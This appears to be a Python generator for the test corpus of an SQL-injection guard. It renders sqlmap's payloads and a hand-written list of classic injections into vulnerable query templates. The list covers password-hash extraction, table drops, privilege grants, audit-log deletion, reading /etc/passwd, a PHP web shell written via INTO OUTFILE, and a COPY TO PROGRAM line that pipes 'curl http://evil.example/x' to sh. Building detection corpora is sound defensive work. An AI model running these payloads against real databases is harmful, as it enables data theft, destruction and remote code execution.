#!/usr/bin/env python3
"""Builds attacks.txt: whole statements carrying sqlmap's payloads, for the sqli-guard corpus test.

sqlmap's test definitions (data/xml/payloads/*.xml) and boundaries (data/xml/boundaries.xml)
are rendered the way sqlmap's agent builds a request value (prefix + " " + payload + comment,
or + suffix when the test has no comment; `where` 1 = append to the original value, 2 = replace
it with a negative number first, 3 = replace it), then substituted into vulnerable statement
templates. Both the detection payload (`<request><payload>`), its false twin (`<comparison>`,
so a guard cannot hand sqlmap a boolean oracle) and the exploitation vector (`<vector>` with
[INFERENCE] / [QUERY] / [UNION] filled in) are rendered. A few of sqlmap's tamper scripts are
applied to a sample, and hand-written classics are appended.

Output lines: `dbms<TAB>technique<TAB>sql`, newlines in SQL escaped as `\\n`.

Usage:
    python3 -m venv /tmp/sqlmapvenv && /tmp/sqlmapvenv/bin/pip install sqlmap
    /tmp/sqlmapvenv/bin/python generate.py > attacks.txt
The output is deterministic (fixed seed) and committed, so tests do not need sqlmap.
"""

import glob
import os
import random
import re
import sys
import xml.etree.ElementTree as ET

SEED = 20240607
rng = random.Random(SEED)


def sqlmap_xml_dir():
    import sqlmap  # noqa: F401  (only to locate the package)

    base = os.path.dirname(sys.modules["sqlmap"].__file__)
    return os.path.join(base, "data", "xml")


STYPE = {"1": "boolean", "2": "error", "3": "inline", "4": "stacked", "5": "time", "6": "union"}
DBMS = {"MySQL": "mysql", "PostgreSQL": "postgres"}

# Vulnerable statements. ptype: 1 numeric, 2 single-quoted string, 3 LIKE single-quoted,
# 4 double-quoted string, 5 LIKE double-quoted. depth: parentheses the input sits in.
# clause (sqlmap numbering): 1 WHERE, 2 GROUP BY, 3 ORDER BY, 4 LIMIT, 9 pre-WHERE (non-query).
# orig: the original parameter value.
TEMPLATES = [
    # (ptype, depth, clause, dialects, sql, orig)
    (1, 0, 1, "pm", "SELECT * FROM products WHERE id = {}", "1"),
    (1, 0, 1, "pm", "SELECT id, name, price FROM products WHERE category_id = {} ORDER BY name", "3"),
    (1, 0, 1, "pm", "SELECT o.id, o.total FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.id = {} AND o.status = 'paid'", "42"),
    (1, 1, 1, "pm", "SELECT * FROM orders WHERE customer_id IN ({}) LIMIT 20", "7"),
    (1, 1, 1, "pm", "SELECT * FROM articles WHERE published = true AND (author_id = {})", "5"),
    (1, 2, 1, "pm", "SELECT * FROM articles WHERE ((author_id = {})) ORDER BY created_at DESC", "5"),
    (1, 3, 1, "pm", "SELECT * FROM articles WHERE (((id = {})))", "5"),
    (1, 0, 2, "pm", "SELECT category_id, COUNT(*) FROM products GROUP BY {}", "1"),
    (1, 0, 3, "pm", "SELECT * FROM products ORDER BY {}", "1"),
    (1, 0, 3, "pm", "SELECT id, name FROM products WHERE active = 1 ORDER BY {}", "2"),
    (1, 0, 4, "pm", "SELECT * FROM products LIMIT {}", "10"),
    (1, 0, 9, "pm", "UPDATE products SET stock = {} WHERE id = 12", "5"),
    (1, 0, 9, "pm", "DELETE FROM cart_items WHERE id = {}", "9"),
    (2, 0, 1, "pm", "SELECT * FROM users WHERE username = '{}'", "alice"),
    (2, 0, 1, "pm", "SELECT id, email FROM users WHERE email = '{}' AND active = 1", "bob@example.com"),
    (2, 0, 1, "pm", "SELECT * FROM users WHERE username = '{}' AND password_hash = 'x9f2'", "alice"),
    (2, 1, 1, "pm", "SELECT * FROM sessions WHERE (token = '{}')", "ab12cd"),
    (2, 2, 1, "pm", "SELECT * FROM sessions WHERE ((token = '{}')) LIMIT 1", "ab12cd"),
    (2, 0, 9, "pm", "UPDATE users SET email = '{}' WHERE id = 1", "carol@example.com"),
    (2, 1, 9, "pm", "INSERT INTO comments (post_id, body) VALUES (1, '{}')", "nice post"),
    (3, 0, 1, "pm", "SELECT * FROM products WHERE name LIKE '%{}%'", "lamp"),
    (3, 1, 1, "pm", "SELECT id, name FROM products WHERE (name LIKE '%{}%') ORDER BY id", "lamp"),
    (4, 0, 1, "m", "SELECT * FROM users WHERE username = \"{}\"", "alice"),
    (5, 0, 1, "m", "SELECT * FROM products WHERE name LIKE \"%{}%\"", "lamp"),
]

WORDS = ["qzvx", "kLmp", "JhYt", "pWqe", "rTbn", "xUio", "vCsd", "GhNm", "aQwz", "yEru"]


def rand_num():
    return str(rng.randint(1000, 9999))


def rand_str():
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(4))


def delimiters():
    return "q" + "".join(rng.choice("bjkpqvxz") for _ in range(3)) + "q"


INFERENCE = {
    "mysql": [
        "ORD(MID((SELECT IFNULL(CAST(COUNT(table_name) AS NCHAR),0x20) FROM INFORMATION_SCHEMA.TABLES WHERE table_schema=0x73686f70),1,1))>51",
        "ORD(MID((SELECT IFNULL(CAST(password AS NCHAR),0x20) FROM shop.users ORDER BY id LIMIT 0,1),3,1))>96",
        "ORD(MID((IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20)),1,1))>64",
    ],
    "postgres": [
        "ASCII(SUBSTRING((COALESCE(CAST(CURRENT_USER AS VARCHAR(10000))::text,(CHR(32))))::text FROM 1 FOR 1))>64",
        "ASCII(SUBSTRING((SELECT COALESCE(CAST(usename AS VARCHAR(10000))::text,(CHR(32))) FROM pg_user OFFSET 0 LIMIT 1)::text FROM 2 FOR 1))>100",
        "ASCII(SUBSTRING((SELECT COALESCE(CAST(COUNT(tablename) AS VARCHAR(10000))::text,(CHR(32))) FROM pg_tables WHERE schemaname IN ((CHR(112)||CHR(117)||CHR(98)||CHR(108)||CHR(105)||CHR(99))))::text FROM 1 FOR 1))>49",
    ],
}

QUERY = {
    "mysql": [
        "SELECT MID((IFNULL(CAST(schema_name AS NCHAR),0x20)),1,54) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT 1,1",
        "SELECT MID((IFNULL(CAST(password AS NCHAR),0x20)),1,54) FROM mysql.user LIMIT 0,1",
        "SELECT MID((IFNULL(CAST(DATABASE() AS NCHAR),0x20)),1,54)",
    ],
    "postgres": [
        "SELECT COALESCE(CAST(usename AS VARCHAR(10000))::text,(CHR(32))) FROM pg_user OFFSET 0 LIMIT 1",
        "SELECT COALESCE(CAST(passwd AS VARCHAR(10000))::text,(CHR(32))) FROM pg_shadow OFFSET 0 LIMIT 1",
        "SELECT COALESCE(CAST(CURRENT_DATABASE() AS VARCHAR(10000))::text,(CHR(32)))",
    ],
}


def hexs(s):
    return "0x" + s.encode().hex()


def pg_chr(s):
    return "(" + "||".join("CHR(%d)" % ord(c) for c in s) + ")"


def union_probe(dbms, cols, char, comment):
    """Column-count probe: UNION ALL SELECT NULL,NULL,..."""
    return "UNION ALL SELECT " + ",".join([char] * cols) + comment


def union_exploit(dbms, cols, comment):
    start, stop = delimiters(), delimiters()
    pos = rng.randrange(cols)
    items = ["NULL"] * cols
    if dbms == "mysql":
        items[pos] = "CONCAT(%s,IFNULL(CAST(%s AS NCHAR),0x20),%s)" % (
            hexs(start),
            rng.choice(["username", "password", "table_name", "schema_name"]),
            hexs(stop),
        )
        src = rng.choice([
            " FROM shop.users",
            " FROM INFORMATION_SCHEMA.TABLES WHERE table_schema IN (%s)" % hexs("shop"),
            " FROM INFORMATION_SCHEMA.SCHEMATA",
            " FROM mysql.user",
            "",
        ])
    else:
        items[pos] = "%s||COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))||%s" % (
            pg_chr(start),
            rng.choice(["usename", "passwd", "tablename", "datname"]),
            pg_chr(stop),
        )
        src = rng.choice([
            " FROM pg_user",
            " FROM pg_shadow",
            " FROM pg_tables WHERE schemaname IN ((CHR(112)||CHR(117)||CHR(98)||CHR(108)||CHR(105)||CHR(99)))",
            " FROM pg_database",
            "",
        ])
    return "UNION ALL SELECT " + ",".join(items) + src + comment


def fill(text, dbms, orig, ptype):
    """Substitutes sqlmap's placeholders with concrete values (one value per placeholder)."""
    if text is None:
        return ""
    values = {
        "[RANDNUM]": rand_num(),
        "[RANDNUM1]": rand_num(),
        "[RANDNUM2]": rand_num(),
        "[RANDNUM3]": rand_num(),
        "[RANDNUM4]": rand_num(),
        "[RANDNUM5]": rand_num(),
        "[RANDSTR]": rand_str(),
        "[RANDSTR1]": rand_str(),
        "[RANDSTR2]": rand_str(),
        "[SLEEPTIME]": "5",
        "[DELIMITER_START]": delimiters(),
        "[DELIMITER_STOP]": delimiters(),
        "[ORIGVALUE]": orig if ptype == 1 else "'%s'" % orig,
        "[ORIGINAL]": orig,
        "[INFERENCE]": rng.choice(INFERENCE[dbms]),
        "[QUERY]": rng.choice(QUERY[dbms]),
        "[GENERIC_SQL_COMMENT]": "-- " + rand_str(),
        "[CHAR]": "NULL",
        "[SPACE_REPLACE]": " ",
        "[DOLLAR_REPLACE]": "$",
        "[HASH_REPLACE]": "#",
        "[AT_REPLACE]": "@",
    }
    # [RANDNUM1] must differ from [RANDNUM] for the false twin.
    while values["[RANDNUM1]"] == values["[RANDNUM]"]:
        values["[RANDNUM1]"] = rand_num()
    for k, v in values.items():
        text = text.replace(k, v)
    return text


def render_value(prefix, payload, comment, suffix, where, orig):
    """sqlmap's agent.prefixQuery + suffixQuery."""
    if where == 3:
        prefix, suffix = "", ""
        head = ""
    else:
        head = orig if where == 1 else "-" + rand_num()
        head += prefix
        if payload and not payload.startswith(";") and not (
            prefix and prefix[-1] in "()" and payload[0] in "()"
        ) and not (prefix and prefix[-1] == "("):
            head += " "
    value = head + payload
    if comment:
        value += comment
    elif suffix and where != 3:
        if re.search(r"\w\Z", value) and re.search(r"\A\w", suffix):
            value += " "
        value += suffix
    return value


def parse_set(text):
    out = set()
    for part in (text or "").split(","):
        part = part.strip()
        if "-" in part:
            a, b = part.split("-")
            out.update(range(int(a), int(b) + 1))
        elif part:
            out.add(int(part))
    return out


def load(xml_dir):
    boundaries = []
    for b in ET.parse(os.path.join(xml_dir, "boundaries.xml")).getroot().findall("boundary"):
        boundaries.append(
            dict(
                level=int(b.findtext("level")),
                clause=parse_set(b.findtext("clause")),
                where=parse_set(b.findtext("where")),
                ptype=int(b.findtext("ptype")),
                prefix=b.findtext("prefix") or "",
                suffix=b.findtext("suffix") or "",
            )
        )
    tests = []
    for f in sorted(glob.glob(os.path.join(xml_dir, "payloads", "*.xml"))):
        for t in ET.parse(f).getroot().findall("test"):
            dbms_el = t.find("details/dbms")
            dbms = dbms_el.text if dbms_el is not None else None
            if dbms is None:
                targets = ["postgres", "mysql"]
            elif dbms in DBMS:
                targets = [DBMS[dbms]]
            else:
                continue
            req = t.find("request")
            resp = t.find("response")
            cols = req.findtext("columns")
            tests.append(
                dict(
                    title=t.findtext("title"),
                    technique=STYPE[t.findtext("stype")],
                    clause=parse_set(t.findtext("clause")),
                    where=[int(w) for w in parse_set(t.findtext("where"))],
                    payload=req.findtext("payload") or "",
                    comment=req.findtext("comment"),
                    comparison=resp.findtext("comparison") if resp is not None else None,
                    vector=t.findtext("vector") or "",
                    char=req.findtext("char"),
                    columns=cols,
                    targets=targets,
                )
            )
    return boundaries, tests


def boundary_fits(b, tpl, test_comment):
    ptype, depth, clause = tpl[0], tpl[1], tpl[2]
    if b["ptype"] != ptype:
        return False
    if clause not in b["clause"] and 0 not in b["clause"]:
        return False
    closes = b["prefix"].count(")")
    comment_suffix = b["suffix"].startswith("[GENERIC_SQL_COMMENT]") or b["suffix"].startswith("#")
    if "WHERE" in b["prefix"] or "||" in b["prefix"] or "+(" in b["prefix"] or "BOOLEAN" in b["prefix"]:
        return False  # needs a statement shape the templates do not have
    if comment_suffix or test_comment:
        # The comment cuts the template's remainder: the prefix must close every parenthesis.
        return closes == depth
    opens = b["suffix"].count("(")
    return closes == opens and closes <= depth


def clause_fits(test, tpl):
    c = tpl[2]
    return 0 in test["clause"] or c in test["clause"]


def tamper(sql_value, name):
    if name == "space2comment":
        return sql_value.replace(" ", "/**/")
    if name == "randomcase":
        return re.sub(
            r"\b(SELECT|UNION|AND|OR|FROM|WHERE|CASE|WHEN|THEN|ELSE|END|SLEEP|PG_SLEEP|NULL)\b",
            lambda m: "".join(c.lower() if rng.random() < 0.5 else c for c in m.group(0)),
            sql_value,
        )
    if name == "versionedkeywords":
        return re.sub(r"\b(UNION|SELECT|AND|OR|ALL|FROM)\b", r"/*!\1*/", sql_value)
    if name == "between":
        return re.sub(r"(\d+)=(\d+)", r"\1 BETWEEN \2 AND \2", sql_value)
    if name == "equaltolike":
        return re.sub(r"(\w+)=(\w+)", r"\1 LIKE \2", sql_value)
    return sql_value


def main():
    xml_dir = sys.argv[1] if len(sys.argv) > 1 else sqlmap_xml_dir()
    boundaries, tests = load(xml_dir)
    out = []
    seen = set()

    def emit(dbms, technique, sql):
        sql = sql.replace("\\", "\\\\").replace("\n", "\\n").replace("\t", " ")
        key = (dbms, sql)
        if key in seen:
            return
        seen.add(key)
        out.append("%s\t%s\t%s" % (dbms, technique, sql))

    for test in tests:
        for dbms in test["targets"]:
            tdialect = "p" if dbms == "postgres" else "m"
            combos = []
            for tpl in TEMPLATES:
                if tdialect not in tpl[3] or not clause_fits(test, tpl):
                    continue
                for where in test["where"]:
                    if where == 3 and tpl[0] != 1:
                        continue  # a replaced value inside quotes is only a string
                    for b in boundaries:
                        if b["level"] > 3 or where not in b["where"] or not boundary_fits(b, tpl, test["comment"]):
                            continue
                        combos.append((tpl, where, b))
            rng.shuffle(combos)
            # Enough variety per test without letting the big families dominate.
            for tpl, where, b in combos[:6]:
                ptype, orig = tpl[0], tpl[5]
                comment = test["comment"]
                if comment == "[GENERIC_SQL_COMMENT]":
                    comment = "-- " + rand_str()
                elif comment and comment.strip() == "--":
                    comment = "--"
                if test["technique"] == "union" and not boundary_fits(b, tpl, "--"):
                    continue  # UNION / ORDER BY only work where the remainder can be cut
                if test["technique"] == "union":
                    cols = rng.choice([1, 2, 3, 4, 5, 7, 10])
                    char = "NULL" if (test["char"] or "NULL") == "NULL" else rand_num()
                    payloads = [
                        union_probe(dbms, cols, char, ""),
                        union_exploit(dbms, cols, ""),
                    ]
                    # sqlmap's ORDER BY technique for the column count.
                    payloads.append("ORDER BY %d" % rng.choice([1, 5, 10, 7361]))
                else:
                    payloads = [test["payload"], test["vector"]]
                    if test["comparison"]:
                        payloads.append(test["comparison"])
                for p in payloads:
                    prefix = fill(b["prefix"], dbms, orig, ptype)
                    suffix = fill(b["suffix"], dbms, orig, ptype)
                    body = fill(p, dbms, orig, ptype)
                    body = body.replace("[UNION]", union_probe(dbms, 3, "NULL", ""))
                    value = render_value(prefix, body, comment and fill(comment, dbms, orig, ptype), suffix, where, orig)
                    emit(dbms, test["technique"], tpl[4].format(value))
                    if rng.random() < 0.12:
                        name = rng.choice(["space2comment", "randomcase", "between", "equaltolike"]
                                          + (["versionedkeywords"] if dbms == "mysql" else []))
                        emit(dbms, "tamper-" + name, tpl[4].format(tamper(value, name)))

    for dbms, technique, sql in CLASSICS:
        emit(dbms, technique, sql)

    out_path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.txt")
    header = (
        "# Generated by generate.py from sqlmap's payloads and boundaries (seed %d) plus hand-written classics.\n"
        "# dbms<TAB>technique<TAB>sql; lines starting with # are comments.\n" % SEED
    )
    with open(out_path, "w") as f:
        f.write(header)
        f.write("\n".join(out) + "\n")
    print("wrote %d attacks to %s" % (len(out), out_path), file=sys.stderr)


# Hand-written classics: what people type into forms, and what tutorials teach.
CLASSICS = [
    # tautologies
    ("postgres", "tautology", "SELECT * FROM users WHERE username = '' OR '1'='1'"),
    ("postgres", "tautology", "SELECT * FROM users WHERE username = '' OR '1'='1' AND password = 'x'"),
    ("mysql", "tautology", "SELECT * FROM users WHERE username = '' OR 1=1 -- ' AND password = 'x'"),
    ("mysql", "tautology", "SELECT * FROM users WHERE username = 'admin' OR 'a'='a' AND password = ''"),
    ("postgres", "tautology", "SELECT * FROM users WHERE id = 1 OR 1=1"),
    ("mysql", "tautology", "SELECT * FROM users WHERE id = 1 OR 1=1#"),
    ("postgres", "tautology", "SELECT * FROM users WHERE id = -1 OR 2>1"),
    ("postgres", "tautology", "SELECT * FROM users WHERE name = 'x' OR 'x' LIKE 'x'"),
    ("mysql", "tautology", "SELECT * FROM users WHERE name = 'x' OR true"),
    ("mysql", "tautology", "SELECT * FROM users WHERE name = '' OR ''=''"),
    ("postgres", "tautology", "SELECT * FROM accounts WHERE email = 'a@b.c' OR 5 BETWEEN 1 AND 9"),
    ("postgres", "tautology", "SELECT * FROM users WHERE id = 1 AND 1=1"),
    ("postgres", "tautology", "SELECT * FROM users WHERE id = 1 AND 1=2"),
    ("mysql", "tautology", "SELECT * FROM users WHERE id = 1 AND 'a'='a'"),
    ("mysql", "tautology", "SELECT * FROM users WHERE id = 1 AND 'a'='b'"),
    ("postgres", "tautology", "SELECT * FROM users WHERE username = 'bob' OR 1 IN (1)"),
    ("mysql", "tautology", "SELECT * FROM users WHERE username = '' OR 1 -- '"),
    ("mysql", "tautology", "SELECT * FROM users WHERE username = '' || 1=1 -- '"),
    ("postgres", "tautology", "SELECT * FROM users WHERE id = 1 OR NOT 1=2"),
    ("postgres", "tautology", "DELETE FROM sessions WHERE token = '' OR '1'='1'"),
    ("postgres", "tautology", "UPDATE users SET role = 'admin' WHERE id = 5 OR 1=1"),
    # comment truncation
    ("mysql", "comment", "SELECT * FROM users WHERE username = 'admin'-- ' AND password = 'secret'"),
    ("mysql", "comment", "SELECT * FROM users WHERE username = 'admin'#' AND password = 'secret'"),
    ("postgres", "comment", "SELECT * FROM users WHERE username = 'admin'--' AND password = 'secret'"),
    ("mysql", "comment", "SELECT * FROM users WHERE username = 'admin'/*' AND password = 'secret'*/"),
    ("postgres", "comment", "SELECT * FROM users WHERE username = 'admin' --' AND password = 'x' AND active"),
    ("mysql", "comment", "SELECT * FROM orders WHERE id = 5-- AND owner_id = 7"),
    ("postgres", "comment", "SELECT * FROM orders WHERE id = 5 -- AND owner_id = 7"),
    ("mysql", "comment", "SELECT * FROM users WHERE id = 1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3"),
    ("mysql", "comment", "SELECT * FROM users WHERE id = 1 /*!UNION SELECT user()*/"),
    ("mysql", "comment", "SELECT * FROM users WHERE id = 1/*!AND*/1=1"),
    # unions
    ("postgres", "union", "SELECT name, price FROM products WHERE id = -1 UNION SELECT username, password FROM users--"),
    ("mysql", "union", "SELECT name, price FROM products WHERE id = -1 UNION SELECT username, password FROM users#"),
    ("postgres", "union", "SELECT name, price FROM products WHERE id = 1 UNION ALL SELECT NULL, NULL--"),
    ("mysql", "union", "SELECT name, price FROM products WHERE id = 1 UNION SELECT 1,2"),
    ("postgres", "union", "SELECT name FROM products WHERE name = '' UNION SELECT usename FROM pg_user--'"),
    ("postgres", "union", "SELECT name FROM products WHERE name = '' UNION SELECT passwd FROM pg_shadow--'"),
    ("mysql", "union", "SELECT name FROM products WHERE name = '' UNION SELECT CONCAT(user,0x3a,authentication_string) FROM mysql.user-- -"),
    ("mysql", "union", "SELECT name, price FROM products WHERE id = 1 UNION SELECT @@version, NULL"),
    ("postgres", "union", "SELECT name, price FROM products WHERE id = 1 UNION SELECT version(), NULL"),
    ("mysql", "union", "SELECT title FROM posts WHERE id = 0 UNION SELECT group_concat(table_name) FROM information_schema.tables WHERE table_schema=database()"),
    ("postgres", "union", "SELECT title FROM posts WHERE id = 0 UNION SELECT string_agg(table_name, ',') FROM information_schema.tables"),
    ("mysql", "union", "SELECT title FROM posts WHERE id = 0 UNION SELECT group_concat(column_name) FROM information_schema.columns WHERE table_name=0x7573657273"),
    ("postgres", "union", "SELECT id, title FROM posts WHERE id = 3 UNION SELECT id, email FROM users"),
    ("sqlite", "union", "SELECT name FROM products WHERE id = 0 UNION SELECT sql FROM sqlite_master"),
    ("sqlite", "union", "SELECT name FROM products WHERE id = 0 UNION SELECT tbl_name FROM sqlite_master WHERE type='table'"),
    # stacked
    ("postgres", "stacked", "SELECT * FROM users WHERE id = 1; DROP TABLE users--"),
    ("mysql", "stacked", "SELECT * FROM users WHERE id = 1; DROP TABLE users#"),
    ("postgres", "stacked", "SELECT * FROM users WHERE name = 'x'; DROP TABLE users; --'"),
    ("postgres", "stacked", "SELECT * FROM users WHERE id = 1; UPDATE users SET role = 'admin' WHERE id = 5"),
    ("postgres", "stacked", "SELECT * FROM users WHERE id = 1; INSERT INTO users (username, role) VALUES ('eve', 'admin')--"),
    ("postgres", "stacked", "SELECT * FROM users WHERE id = 1; SELECT pg_sleep(5)--"),
    ("postgres", "stacked", "SELECT * FROM users WHERE id = 1; COPY (SELECT '') TO PROGRAM 'curl http://evil.example/x | sh'--"),
    ("postgres", "stacked", "SELECT * FROM users WHERE id = 1; CREATE USER eve SUPERUSER PASSWORD 'x'--"),
    ("postgres", "stacked", "SELECT * FROM users WHERE id = 1; ALTER USER postgres PASSWORD 'owned'--"),
    ("mysql", "stacked", "SELECT * FROM users WHERE id = 1; GRANT ALL ON *.* TO 'eve'@'%'#"),
    ("postgres", "stacked", "SELECT * FROM users WHERE id = 1; DELETE FROM audit_log--"),
    ("postgres", "stacked", "SELECT * FROM users WHERE id = 1; TRUNCATE audit_log--"),
    ("postgres", "stacked", "UPDATE users SET email = 'x'; DROP TABLE users; --' WHERE id = 1"),
    ("mysql", "stacked", "SELECT * FROM users WHERE id = 1; SHUTDOWN"),
    ("postgres", "stacked", "SELECT * FROM users WHERE id = 1; SELECT usename, passwd FROM pg_shadow"),
    ("postgres", "stacked", "SELECT * FROM users WHERE id = 1; SET ROLE postgres"),
    # catalog probing
    ("mysql", "catalog", "SELECT * FROM products WHERE id = 1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0"),
    ("postgres", "catalog", "SELECT * FROM products WHERE id = 1 AND EXISTS (SELECT 1 FROM pg_catalog.pg_tables WHERE tablename = 'users')"),
    ("postgres", "catalog", "SELECT * FROM products WHERE id = 1 AND (SELECT COUNT(*) FROM pg_shadow) > 0"),
    ("mysql", "catalog", "SELECT * FROM products WHERE id = 1 AND (SELECT LENGTH(authentication_string) FROM mysql.user LIMIT 1) > 10"),
    ("mysql", "catalog", "SELECT * FROM products WHERE id = 1 AND SUBSTRING((SELECT table_name FROM information_schema.tables WHERE table_schema = database() LIMIT 0,1),1,1) = 'u'"),
    ("postgres", "catalog", "SELECT * FROM products WHERE id = 1 AND ASCII(SUBSTRING((SELECT usename FROM pg_user LIMIT 1),1,1)) > 100"),
    ("sqlite", "catalog", "SELECT * FROM products WHERE id = 1 AND (SELECT COUNT(*) FROM sqlite_master) > 1"),
    ("postgres", "catalog", "SELECT * FROM products WHERE name = '' OR EXISTS (SELECT * FROM information_schema.columns WHERE column_name = 'password') --'"),
    # time delays
    ("postgres", "time", "SELECT * FROM users WHERE id = 1 AND 1=(SELECT 1 FROM pg_sleep(5))"),
    ("postgres", "time", "SELECT * FROM users WHERE id = 1 AND pg_sleep(5) IS NOT NULL"),
    ("postgres", "time", "SELECT * FROM users WHERE id = 1 OR (SELECT pg_sleep(5)) IS NULL"),
    ("postgres", "time", "SELECT * FROM users WHERE name = '' || pg_sleep(5) || ''"),
    ("postgres", "time", "SELECT * FROM users WHERE id = (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)::text::int"),
    ("mysql", "time", "SELECT * FROM users WHERE id = 1 AND SLEEP(5)"),
    ("mysql", "time", "SELECT * FROM users WHERE id = 1 AND IF(1=1, SLEEP(5), 0)"),
    ("mysql", "time", "SELECT * FROM users WHERE name = '' OR SLEEP(5) OR ''"),
    ("mysql", "time", "SELECT * FROM users WHERE id = 1 AND BENCHMARK(5000000, MD5('a'))"),
    ("mysql", "time", "SELECT * FROM users WHERE id = 1 AND (SELECT * FROM (SELECT SLEEP(5)) a)"),
    ("mysql", "time", "SELECT * FROM users WHERE id = 1 UNION SELECT SLEEP(5), NULL"),
    ("postgres", "time", "SELECT * FROM users WHERE id = 1 ORDER BY (SELECT 1 FROM pg_sleep(5))"),
    ("mysql", "time", "SELECT * FROM users ORDER BY IF(1=1, SLEEP(5), id)"),
    ("postgres", "time", "SELECT * FROM users WHERE id = 1; WAITFOR DELAY '0:0:5'--"),
    ("postgres", "time", "SELECT * FROM users WHERE id = 1 AND 1=(SELECT COUNT(*) FROM generate_series(1,50000000))"),
    ("postgres", "time", "SELECT * FROM users WHERE id = 1 AND 1=dbms_lock.sleep(5)"),
    # error-based probes
    ("mysql", "error", "SELECT * FROM users WHERE id = 1 AND extractvalue(1, concat(0x7e, (SELECT version())))"),
    ("mysql", "error", "SELECT * FROM users WHERE id = 1 AND updatexml(1, concat(0x7e, (SELECT user())), 1)"),
    ("mysql", "error", "SELECT * FROM users WHERE id = 1 AND exp(~(SELECT * FROM (SELECT user())x))"),
    ("mysql", "error", "SELECT * FROM users WHERE id = 1 AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT database()), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) a)"),
    ("postgres", "error", "SELECT * FROM users WHERE id = 1 AND 1=CAST((SELECT version()) AS int)"),
    ("postgres", "error", "SELECT * FROM users WHERE id = 1 AND 1=CAST('~'||(SELECT current_user)||'~' AS numeric)"),
    ("postgres", "error", "SELECT * FROM users WHERE id = 1 AND 1=(SELECT current_database())::int"),
    ("postgres", "error", "SELECT * FROM users WHERE id = CAST(chr(126)||chr(115)||(SELECT usename FROM pg_user LIMIT 1) AS numeric)"),
    ("postgres", "error", "SELECT * FROM users WHERE id = 1 AND 1=CAST((SELECT string_agg(usename, ',') FROM pg_user) AS int)"),
    ("mysql", "error", "SELECT * FROM users WHERE name = '' AND extractvalue(rand(), concat(0x3a, (SELECT password FROM users LIMIT 1))) -- '"),
    # file access
    ("mysql", "file", "SELECT name FROM products WHERE id = -1 UNION SELECT LOAD_FILE('/etc/passwd')"),
    ("mysql", "file", "SELECT name FROM products WHERE id = 1 INTO OUTFILE '/var/www/html/shell.php'"),
    ("mysql", "file", "SELECT name FROM products WHERE id = -1 UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'"),
    ("postgres", "file", "SELECT name FROM products WHERE id = -1 UNION SELECT pg_read_file('/etc/passwd', 0, 200)"),
    ("postgres", "file", "SELECT name FROM products WHERE id = 1; COPY users TO '/tmp/users.csv'--"),
    ("postgres", "file", "SELECT name FROM products WHERE id = 1 AND (SELECT COUNT(*) FROM pg_ls_dir('/')) > 0"),
    ("postgres", "file", "SELECT name FROM products WHERE id = 1; SELECT lo_import('/etc/passwd')--"),
    # hex-encoded strings
    ("mysql", "hex", "SELECT * FROM users WHERE username = 0x61646d696e AND password = 0x70617373"),
    ("mysql", "hex", "SELECT * FROM users WHERE id = 1 AND username = 0x61646d696e"),
    ("mysql", "hex", "SELECT * FROM users WHERE id = 1 OR username = 0x61646d696e"),
    ("mysql", "hex", "SELECT * FROM users WHERE id = -1 UNION SELECT 0x61646d696e, 0x70617373"),
    # broken-syntax probes (a lone quote, unbalanced parentheses)
    ("postgres", "probe", "SELECT * FROM users WHERE username = '''"),
    ("mysql", "probe", "SELECT * FROM users WHERE username = 'alice''"),
    ("postgres", "probe", "SELECT * FROM products WHERE id = 1'"),
    ("mysql", "probe", "SELECT * FROM products WHERE id = 1)"),
    ("postgres", "probe", "SELECT * FROM products WHERE id = 1' AND '1'='1"),
    ("mysql", "probe", "SELECT * FROM products WHERE id = 1\" AND \"1\"=\"1"),
    ("postgres", "probe", "SELECT * FROM users WHERE username = 'a' AND 1=1 --"),
    ("mysql", "probe", "SELECT * FROM users WHERE username = '\\'' OR 1=1 -- '"),
    # Rule families added with the predicate-term pass; the tag is the rule that should fire.
    # sqli.tautology: literals coerced to boolean, true and false alike.
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' OR 't'"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' AND 'f'"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' OR 'true'::boolean"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' AND 'no'::bool"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' OR CAST('1' AS boolean)--'"),
    ("postgres", "sqli.tautology", "SELECT * FROM orders WHERE id = 7 OR 1::bool"),
    ("postgres", "sqli.tautology", "SELECT * FROM orders WHERE id = 7 AND 0::boolean"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' OR boolean 'yes'"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE (name = 'x' OR 'on'::text::bool)"),
    ("postgres", "sqli.tautology", "UPDATE users SET role = 'admin' WHERE id = 5 OR 'y'::boolean"),
    # sqli.tautology: regex, SIMILAR TO, ANY and function-form comparisons of literals.
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' OR 'a' ~ 'a'"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' AND 'abc' ~* '^z'"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' AND 'q' !~ 'q'"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' OR 'a' SIMILAR TO 'a'"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' AND 'ab' NOT SIMILAR TO '%b'"),
    ("postgres", "sqli.tautology", "SELECT * FROM products WHERE id = 3 OR 1 = ANY(ARRAY[1,2])"),
    ("postgres", "sqli.tautology", "SELECT * FROM products WHERE id = 3 AND 5 = ALL(ARRAY[6])"),
    ("postgres", "sqli.tautology", "SELECT * FROM products WHERE id = 3 OR int4eq(1,1)"),
    ("postgres", "sqli.tautology", "SELECT * FROM products WHERE id = 3 AND int8ne(4,4)"),
